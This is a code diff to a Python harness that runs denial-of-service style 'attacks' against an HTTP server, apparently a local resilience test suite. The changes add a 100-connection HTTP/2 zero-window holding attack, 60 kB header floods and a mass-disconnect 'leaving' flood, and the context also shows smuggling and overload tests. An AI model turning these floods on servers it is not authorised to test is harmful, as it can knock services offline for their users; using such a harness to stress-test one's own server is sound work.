@@ -2,6 +2,7 @@
 
 import asyncio
 import collections
+import logging
 import os
 import re
 import struct
@@ -9,6 +10,8 @@ import sys
 import time
 
 from shapes import SHAPES
+import hpack
+
 from wire import *
 
 SECONDS = float(os.environ.get("SECONDS_EACH", "10"))
@@ -106,9 +109,7 @@ async def flood(target, prepare, bytes_of, many=1, reads=True, connections=4):
                 if reads:
                     await asyncio.wait([connection.reading], timeout=1)
                     goaway = "GOAWAY {} {}".format(*connection.goaway).strip() if connection.goaway else ""
-                    ends[" ".join(filter(None, [goaway, connection.how or "open at the end"]))] += 1
-                    if connection.statuses:
-                        ends["statuses " + counted(collections.Counter(dict.fromkeys(connection.statuses, 1)))] += 0
+                    ends[goaway or connection.how or "open at the end"] += 1
                 elif time.monotonic() < until:
                     ends["closed"] += 1
                 else:
@@ -131,11 +132,9 @@ async def nothing(target):
 # Held answers.
 
 
-@attack("h2-window-zero")
-async def window_zero(target):
-    """10 connections hold 99 large answers each, and ask for something cheap every 15 s."""
+async def window_zero(target, count):
     start = time.monotonic()
-    connections = [await target.http2(window=0) for _ in range(10)]
+    connections = [await target.http2(window=0) for _ in range(count)]
     for connection in connections:
         for _ in range(99):
             connection.ask(LARGE)
@@ -158,6 +157,18 @@ async def window_zero(target):
         f"statuses {counted(seen)}; {len(early)} ended at {spread(early)}, {len(late)} at {spread(late)}"
         + f", {still} still open at 80 s" * (still > 0)
     )
+
+
+@attack("h2-window-zero")
+async def window_zero_10(target):
+    """10 connections hold 99 large answers each, and ask for something cheap every 15 s."""
+    return await window_zero(target, 10)
+
+
+@attack("h2-window-zero-100")
+async def window_zero_100(target):
+    """100 connections do that."""
+    return await window_zero(target, 100)
 
 
 @attack("h2-window-dribble")
@@ -574,7 +585,7 @@ async def h2_odd(target):
 @attack("header-flood")
 async def header_flood(target):
     """200 connections, each opened 20 times, with heads of 60 kB."""
-    head = b"GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\nx-a: " + b"a" * 60_000 + b"\r\n\r\n"
+    request = post(CHEAP, target.port, f"x-a: {'a' * 60_000}\r\n")
     until, seen = ending(), collections.Counter()
 
     async def one():
@@ -583,9 +594,9 @@ async def header_flood(target):
                 return
             try:
                 reader, writer = await target.connect()
-                writer.write(head)
-                came, how = await until_closed(reader, 3)
-                seen[(statuses(came) or [how.split(" at ")[0]])[0]] += 1
+                writer.write(request)
+                came = await asyncio.wait_for(reader.read(4096), 5)
+                seen[(statuses(came) or ["closed unheard"])[0]] += 1
                 writer.transport.abort()
             except OSError as error:
                 seen[type(error).__name__] += 1
@@ -606,7 +617,7 @@ async def headers_big(target):
         "90 small": b"".join(b"x-%d: a\r\n" % number for number in range(90)),
     }.items():
         reader, writer = await target.connect()
-        writer.write(b"GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\n" + headers + b"\r\n")
+        writer.write(post(CHEAP, target.port, headers.decode()))
         came, how = await until_closed(reader, 1)
         told.append(f"{name}: {' '.join(statuses(came)) or how}")
     return ", ".join(told)
@@ -628,7 +639,7 @@ async def pipelined(target):
                 came = came[found[-1].end() :] if found else came
     except (TimeoutError, OSError):
         pass
-    return f"{counted(seen)} in {time.monotonic() - start:.1f} s"
+    return f"{counted(seen)} in {time.monotonic() - start:.2f} s"
 
 
 @attack("smuggling")
@@ -653,6 +664,31 @@ async def smuggling(target):
         await one(*shape)
     print("\n".join(lines), file=sys.stderr)
     return f"{len(SHAPES)} shapes, listed apart; not as expected: {', '.join(wrong) or 'none'}"
+
+
+@attack("leaving")
+async def leaving(target):
+    """100 clients of HTTP/1.1 that ask for the large answer and leave together, five times a second."""
+    until, rounds, failed = ending(), 0, 0
+
+    async def open_one():
+        it = plain_socket()
+        await asyncio.get_running_loop().sock_connect(it, (target.host, target.port))
+        return it
+
+    while time.monotonic() < until:
+        clients = await asyncio.gather(*(open_one() for _ in range(100)))
+        try:
+            for it in clients:
+                it.send(post(LARGE, target.port))
+        except OSError:
+            failed += 1
+        await asyncio.sleep(0.003)
+        for it in clients:
+            it.close()
+        rounds += 1
+        await asyncio.sleep(0.2)
+    return f"{rounds} times 100 left, {failed} failed"
 
 
 @attack("overload")
@@ -681,6 +717,8 @@ async def overload(target):
 
 
 def main():
+    # A flood writes on into what the server has closed.
+    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
     name, host, port, pid = sys.argv[1:]
     print(asyncio.run(ATTACKS[name](Target(host, int(port), int(pid)))))
 
